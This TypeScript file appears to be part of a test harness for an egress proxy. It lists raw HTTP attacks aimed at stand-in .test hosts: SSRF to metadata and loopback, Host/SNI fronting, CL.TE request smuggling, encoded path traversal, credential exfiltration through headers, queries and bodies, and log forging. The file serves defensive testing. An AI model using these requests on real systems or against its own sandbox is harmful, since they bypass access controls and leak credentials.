import tls from 'node:tls'
import { ATTEMPT_TIMEOUT_MS, type Attempt, CANARY_ANSWER, type Run } from './attempt.ts'
import { sendTcp } from './network.ts'

const API = 'api.drill.test'
/** allowed too, and bound to no credential */
const OTHER = 'other.drill.test'

type Exchange = { servername?: string | undefined; connectTo?: string }

/** A request exactly as written, over TLS to the API that the agent may use. */
function sendTls(
  bytes: string,
  { servername = API, connectTo = API }: Exchange = {},
): Promise<Attempt> {
  return new Promise((resolve) => {
    let got = ''
    const options: tls.ConnectionOptions = {
      host: connectTo,
      port: 443,
      // the attacker does not care whether the other side is who it says
      rejectUnauthorized: false,
      ALPNProtocols: ['http/1.1'],
    }
    const socket = tls.connect(servername === '' ? options : { ...options, servername })
    const finish = (detail: string): void => {
      socket.destroy()
      const first = got.split('\r\n', 1)[0]?.slice(0, 60) ?? ''
      resolve({
        succeeded: got.includes(CANARY_ANSWER),
        detail: first === '' ? detail : first.trimEnd(),
      })
    }
    socket.setTimeout(ATTEMPT_TIMEOUT_MS, () => finish('no answer'))
    socket.on('secureConnect', () => socket.write(bytes))
    socket.on('data', (chunk) => {
      got += chunk.toString('latin1')
      if (got.includes(CANARY_ANSWER)) finish('answered')
    })
    socket.on('error', (error: NodeJS.ErrnoException) => finish(error.code ?? error.message))
    socket.on('close', () => finish('closed'))
  })
}

const raw =
  (lines: (id: string, placeholder: string) => readonly string[], exchange?: Exchange): Run =>
  (id, { placeholder }) => {
    const [head, body] = split(lines(id, placeholder))
    return sendTls(`${head.join('\r\n')}\r\n\r\n${body}`, exchange)
  }

/** The lines before the first empty one are the head. */
function split(lines: readonly string[]): [string[], string] {
  const at = lines.indexOf('')
  return at < 0 ? [[...lines], ''] : [lines.slice(0, at), lines.slice(at + 1).join('\r\n')]
}

const close = 'Connection: close'

export const httpAttacks: Readonly<Record<string, Run>> = {
  'ssrf-metadata': ssrf('metadata.drill.test'),
  'ssrf-loopback': ssrf('loopback.drill.test'),
  'ssrf-mapped': ssrf('mapped.drill.test'),
  'ssrf-rebind': ssrf('rebind.drill.test'),
  'host-sni': raw((id) => [`GET /public/${id} HTTP/1.1`, 'Host: evil.drill.test', close]),
  'host-front': raw((id) => [`GET /public/${id} HTTP/1.1`, `Host: ${API}`, close], {
    servername: 'evil.drill.test',
  }),
  'host-nosni': raw((id) => [`GET /public/${id} HTTP/1.1`, `Host: ${API}`, close], {
    servername: '',
  }),
  'host-two': raw((id) => [
    `GET /public/${id} HTTP/1.1`,
    `Host: ${API}`,
    'Host: evil.drill.test',
    close,
  ]),
  'host-absolute': raw((id) => [
    `GET https://evil.drill.test/public/${id} HTTP/1.1`,
    `Host: ${API}`,
    close,
  ]),
  'host-connect': raw(() => ['CONNECT evil.drill.test:443 HTTP/1.1', `Host: ${API}`]),
  'host-upgrade': raw((id) => [
    `GET /public/${id} HTTP/1.1`,
    `Host: ${API}`,
    'Connection: Upgrade, HTTP2-Settings',
    'Upgrade: h2c',
    'HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA',
  ]),
  'http-method': raw((id) => [`DELETE /public/${id} HTTP/1.1`, `Host: ${API}`, close]),
  'http-override': raw((id) => [
    `GET /public/${id} HTTP/1.1`,
    `Host: ${API}`,
    'X-HTTP-Method-Override: DELETE',
    close,
  ]),
  'http-path': raw((id) => [`GET /admin/${id} HTTP/1.1`, `Host: ${API}`, close]),
  'http-dots': raw((id) => [`GET /public/../admin/${id} HTTP/1.1`, `Host: ${API}`, close]),
  'http-dots-enc': raw((id) => [`GET /public/%2e%2e/admin/${id} HTTP/1.1`, `Host: ${API}`, close]),
  'http-slash-enc': raw((id) => [`GET /public/..%2fadmin/${id} HTTP/1.1`, `Host: ${API}`, close]),
  'http-clte': raw((id) => [
    `POST /submit HTTP/1.1`,
    `Host: ${API}`,
    'Content-Length: 6',
    'Transfer-Encoding: chunked',
    '',
    '0',
    '',
    `GET /admin/${id} HTTP/1.1`,
    `Host: ${API}`,
    '',
    '',
  ]),
  'http-pipeline': raw((id) => [
    'GET /public/first HTTP/1.1',
    `Host: ${API}`,
    '',
    `GET /admin/${id} HTTP/1.1`,
    `Host: ${API}`,
    close,
    '',
    '',
  ]),
  'cred-query': raw((id, key) => [`GET /public/${id}?k=${key} HTTP/1.1`, `Host: ${API}`, close]),
  'cred-header': raw((id, key) => [
    `GET /public/${id} HTTP/1.1`,
    `Host: ${API}`,
    `X-Note: ${key}`,
    close,
  ]),
  'cred-host': (id, { placeholder }) =>
    sendTls(`GET /public/${id} HTTP/1.1\r\nHost: ${OTHER}\r\nX-Api-Key: ${placeholder}\r\n\r\n`, {
      servername: OTHER,
      connectTo: OTHER,
    }),
  'cred-body': raw(
    (id, key) => [
      'POST /submit HTTP/1.1',
      `Host: ${OTHER}`,
      `Content-Length: ${key.length + id.length + 1}`,
      close,
      '',
      `${id}=${key}`,
    ],
    { servername: OTHER, connectTo: OTHER },
  ),
  'cred-basic': raw((id, key) => [
    `GET /public/${id} HTTP/1.1`,
    `Host: ${API}`,
    `Authorization: Basic ${Buffer.from(`user:${key}`).toString('base64')}`,
    close,
  ]),
  'cred-echo': echo,
  'log-forge': raw((id) => [
    `GET /public/${id}\n{"type":"session.end"} HTTP/1.1`,
    `Host: ${API}`,
    close,
  ]),
}

/** The name is allowed, port and all; where it leads is not. */
function ssrf(host: string): Run {
  return (id, { canaryPort: port }) =>
    sendTcp({ host, port }, `GET /${id} HTTP/1.1\r\nHost: ${host}:${port}\r\n${close}\r\n\r\n`)
}

/**
 * The credential is bound to this host, so the request goes out with the real value; the server
 * sends back what it got. Success is any way of getting the real value out of the answer.
 */
async function echo(_id: string, { placeholder }: { placeholder: string }): Promise<Attempt> {
  const answer = await fetch(`https://${API}/echo`, { headers: { 'x-api-key': placeholder } })
  const text = await answer.text()
  if (!answer.ok) return { succeeded: false, detail: `status ${answer.status}` }
  // The server says which digest the value it got has: the attacker can recognise it by that.
  const echoes = new Map(Object.entries(Object(JSON.parse(text))).map(([k, v]) => [k, String(v)]))
  const digest = echoes.get('digest')
  echoes.delete('digest')
  const { createHash } = await import('node:crypto')
  const forms = [...echoes.values()].flatMap((value) => [
    value,
    Buffer.from(value, 'base64').toString(),
    Buffer.from(value, 'hex').toString(),
    decodeURIComponent(value.replace(/%(?![0-9A-Fa-f]{2})/g, '%25')),
  ])
  const hit = forms.some((form) => createHash('sha256').update(form).digest('hex') === digest)
  return {
    succeeded: hit,
    detail: hit ? 'the real value came back' : `scrubbed: ${echoes.get('plain')}`,
  }
}
